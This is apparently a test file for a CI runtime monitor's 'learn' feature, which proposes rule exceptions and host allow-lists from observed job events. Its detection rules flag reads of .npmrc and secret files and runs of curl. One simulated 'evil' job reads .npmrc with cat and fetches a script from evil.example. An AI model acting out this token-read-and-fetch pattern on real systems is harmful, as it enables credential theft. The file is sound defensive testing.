import { expect, test } from "vitest";
import type { Event } from "../../src/events/event.ts";
import { JsonEventReader } from "../../src/events/json.ts";
import { EVENT_KIND_NAMES } from "../../src/kinds/index.ts";
import { Lessons, stillMatching } from "../../src/learn/lessons.ts";
import { renderProposal } from "../../src/learn/proposal.ts";
import { loadRules } from "../../src/rules/load.ts";
import { LISTS, render } from "../cel/condition-part.ts";
import { randomCondition } from "../cel/random-condition.ts";
import { randomEvents } from "../cel/random-events.ts";
import { random } from "../random.ts";
import { eventOf, type PlainEvent } from "../rules/events.ts";

/** Another seed tries other jobs: RUNWARDEN_SEED=7 npx vitest run test/learn/learning.test.ts */
const SEED = Number(process.env.RUNWARDEN_SEED ?? 1);

const source = (name: string, text: string) => ({ name, text, origin: "project" }) as const;

/** What is proposed for jobs, and what the rules say of them and of others then. */
function learn(rules: string, jobs: readonly (readonly Event[])[]) {
  const lessons = new Lessons(loadRules([source("rules.yaml", rules)]).rules);
  for (const events of jobs) {
    const job = lessons.job();
    for (const event of events) job.add(event);
    job.end();
  }
  const text = renderProposal(lessons);
  const { rules: taught, warnings } = loadRules([source("rules.yaml", rules), source("learned.yaml", text)]);
  const stillOf = (events: readonly Event[]): string[] => {
    const job = stillMatching(taught);
    for (const event of events) job.add(event);
    return job.names();
  };
  return { text, stillOf, warnings: warnings.map(({ kind, message }) => `${kind}: ${message}`) };
}

const RULES = `rule_sets:
  - ruleset_id: t/a
    rules:
      - {rule_id: r, event_type: file_open, condition: 'path.endsWith("/.npmrc") || path.contains("/secret")', action: detect}
      - {rule_id: e, event_type: process_exec, condition: 'process.exec_path.endsWith("/curl")', action: collect}
      - {rule_id: never, event_type: file_remove, condition: 'path == "/x"', action: detect}
      - {rule_id: both, type: correlation, condition: 'matched(rule.r, rule.e) >= 2', action: detect}
`;

const read = (path: string, exec_path: string, argv: string[], more: object = {}): PlainEvent => ({
  event_type: "file_open",
  process: { exec_path, argv, ...more },
  payload: { path, is_read: true },
});
const curl = (url: string): PlainEvent => ({
  event_type: "process_exec",
  process: {
    exec_path: "/usr/bin/curl",
    argv: ["curl", "-f", url],
    file_path: "/usr/bin/curl",
    is_root_owned: true,
  },
});
const lookUp = (domain: string): PlainEvent => ({ event_type: "domain", payload: { domain } });
const connect = (remote_ip: string, remote_domains: string[] = []): PlainEvent => ({
  event_type: "network_connect",
  payload: { remote_ip, remote_domains, remote_port: 443, protocol: "tcp" },
});
const events = (...plain: readonly PlainEvent[]) => plain.map((each, index) => eventOf(each, index));

const FIRST = events(
  read("/home/runner/work/_temp/ab12cd34-1111-2222-3333-444455556666/.npmrc", "/opt/node/20.1.0/bin/node", [
    "node",
    "ci.js",
  ]),
  curl("https://example.com/v1.2.3/x.sh"),
  lookUp("registry.npmjs.org"),
  lookUp("results14.blob.example.net"),
  connect("10.1.2.3"),
  connect("127.0.0.1"),
  connect("10.9.9.9", ["registry.npmjs.org"]),
);
const SECOND = events(
  read("/home/runner/work/_temp/00000000-1111-2222-3333-444455556666/.npmrc", "/opt/node/22.0.0/bin/node", [
    "node",
    "ci.js",
  ]),
  curl("https://example.com/v1.2.4/x.sh"),
  lookUp("registry.npmjs.org"),
  lookUp("results3.blob.example.net"),
);

test("what is secret is in no condition, for rules are put into a repository, and is excepted all the same", () => {
  const call = (password: string): PlainEvent => ({
    event_type: "process_exec",
    process: {
      exec_path: "/usr/bin/curl",
      argv: ["curl", "-u", `me:${password}`, "--oauth2-bearer", password, "https://x.io"],
      file_path: "/usr/bin/curl",
    },
  });
  const { text, stillOf } = learn(RULES, [events(call("hunter22"))]);
  expect(text.replaceAll(/\s+/g, " ")).toContain(
    'process.file_path == "/usr/bin/curl" && "-u" in process.argv && process.argv.exists(a, a.startsWith("me:")) && "--oauth2-bearer" in process.argv && "https://x.io" in process.argv && !is_memfd',
  );
  expect(text).not.toContain("hunter22");
  expect(stillOf(events(call("another")))).toEqual([]);
});

test("what jobs did is excepted, by what does not differ from one to the next, and told how often it was", () => {
  const { text, warnings, stillOf } = learn(RULES, [FIRST, SECOND]);
  expect(
    text,
  ).toBe(`# Proposed by runwarden learn. Read it before you use it: whatever these jobs did is taken for honest.
# Where a beginning and an end are asked for, anything can stand between them, slashes too; arguments can be in any order,
# and more than these.
# Name this file among your rules.
rule_sets:
  - ruleset_id: learned/hosts
    lists:
      hosts:
        - registry.npmjs.org
      addresses:
        - 10.1.2.3
        - 127.0.0.1
    rules:
      - rule_id: new_host
        rule_name: New host
        description: A name that none of the 2 jobs from which this was learned looked up.
        event_type: domain
        condition: |-
          domain != "" &&
          !(domain in list.hosts) &&
          !(domain.startsWith("results") && domain.endsWith(".blob.example.net"))
        distinct: domain
        action: collect
      - rule_id: new_address
        rule_name: New address
        description: An address that none of the 2 jobs from which this was learned connected to, and of which no name is known.
        event_type: network_connect
        condition: |-
          remote_domains == [] &&
          remote_ip != "" &&
          !(remote_ip in list.addresses) &&
          !inIpRange(remote_ip, "127.0.0.0/8") &&
          !inIpRange(remote_ip, "::1/128")
        distinct: remote_ip
        action: collect
---
rule_modifiers:
  - modifier_id: learned/t/a/r
    description: What 2 jobs did that this rule is true of.
    targets:
      - ruleset_id: t/a
        rule_id: r
    add_exceptions: |-
      // 2 matches in 2 of 2 jobs
      (process.exec_path.startsWith("/opt/node/") && process.exec_path.endsWith("/bin/node") && "ci.js" in process.argv && path.startsWith("/home/runner/work/_temp/") && path.endsWith("/.npmrc") && is_read && !is_write)
  - modifier_id: learned/t/a/e
    description: What 2 jobs did that this rule is true of.
    targets:
      - ruleset_id: t/a
        rule_id: e
    add_exceptions: |-
      // 2 matches in 2 of 2 jobs
      (process.is_root_owned && process.file_path == "/usr/bin/curl" && "-f" in process.argv && process.argv.exists(a, a.startsWith("https://example.com/") && a.endsWith("/x.sh")) && !is_memfd)
`);
  expect(warnings).toEqual([]);
  expect([stillOf(FIRST), stillOf(SECOND)]).toEqual([[], []]);
});

test("another job is told of where it does something else, and of its new hosts", () => {
  const { stillOf } = learn(RULES, [FIRST, SECOND]);
  const next = events(
    read("/home/runner/work/_temp/99999999-1111-2222-3333-444455556666/.npmrc", "/opt/node/24.0.0/bin/node", [
      "node",
      "ci.js",
    ]),
    lookUp("results7.blob.example.net"),
    connect("10.9.9.9", ["registry.npmjs.org"]),
  );
  expect(stillOf(next)).toEqual([]);
  const evil = events(
    read("/home/runner/work/_temp/99999999-1111-2222-3333-444455556666/.npmrc", "/bin/cat", ["cat"]),
    curl("https://evil.example/x.sh"),
    lookUp("evil.example"),
    connect("192.0.2.1"),
  );
  expect(stillOf(evil)).toEqual([
    "t/a/r",
    "t/a/e",
    "t/a/both",
    "learned/hosts/new_host",
    "learned/hosts/new_address",
  ]);
});

test("of a program that is called with ever other arguments these say nothing", () => {
  const many = (from: number) =>
    events(
      ...Array.from({ length: 9 }, (_, n) =>
        read("/a/secret", "/bin/tar", ["tar", `x${"abcdefghi"[n]}${from}`]),
      ),
    );
  const { text, stillOf } = learn(RULES, [many(1)]);
  expect(text).toContain(
    '// 9 matches in 1 of 1 job\n      (process.exec_path == "/bin/tar" && path == "/a/secret" && is_read && !is_write)',
  );
  expect(stillOf(many(2))).toEqual([]);
});

test("of whom a program is, a package is asked for by its name, and an action whatever its version", () => {
  const own = { exec_path: "/bin/sh", argv: ["sh"] };
  const by = (fields: object) => {
    const plain = { event_type: "file_open", process: { ...own, ...fields }, payload: { path: "/a/secret" } };
    return [new JsonEventReader().event(plain)];
  };
  const package_ = by({ package: "@acme/left-pad" });
  const action = by({ action: "actions/checkout@v4" });
  const below = by({ action: "acme/tools@11bd719/setup/x" });
  const { text, stillOf } = learn(RULES, [package_, action, below]);
  expect(text.match(/process\.(?:package|action)[^&]+/g)?.map((part) => part.trim())).toEqual([
    'process.action.startsWith("acme/tools@")',
    'process.action.endsWith("/setup/x")',
    'process.action.startsWith("actions/checkout@")',
    'process.package == "@acme/left-pad"',
  ]);
  expect(stillOf(by({ action: "actions/checkout@v5" }))).toEqual([]);
  expect(stillOf(by({ action: "actions/checkout-x@v4" }))).toEqual(["t/a/r"]);
});

test("jobs that match nothing and ask for nothing leave no exceptions and no lists", () => {
  const { text, warnings, stillOf } = learn(RULES, [events(read("/x", "/y", []))]);
  expect(text).not.toContain("rule_modifiers");
  expect(text).not.toContain("lists:");
  expect(warnings).toEqual([]);
  expect(stillOf(events(lookUp("a.example")))).toEqual(["learned/hosts/new_host"]);
});

test("what is proposed for any job, however hostile its texts, loads and silences what it was made from", () => {
  let rulesThatMatched = 0;
  for (let round = 0; round < 8; round++) {
    const choices = random(SEED * 100 + round);
    const rules = EVENT_KIND_NAMES.flatMap((kind) =>
      Array.from({ length: 3 }, (_, n) => ({
        rule_id: `${kind}_${n}`,
        event_type: kind,
        condition: render(randomCondition(choices, kind), "as given"),
        action: "detect",
      })),
    );
    const text = JSON.stringify({ rule_sets: [{ ruleset_id: "t/a", lists: LISTS, rules }] });
    const job = () => EVENT_KIND_NAMES.flatMap((kind) => randomEvents(choices, kind, 20));
    const jobs = [job(), job()];
    const { stillOf, text: proposed } = learn(text, jobs);
    expect([round, jobs.map(stillOf)]).toEqual([round, [[], []]]);
    rulesThatMatched += proposed.split("modifier_id").length - 1;
  }
  expect(rulesThatMatched).toBeGreaterThan(50);
});
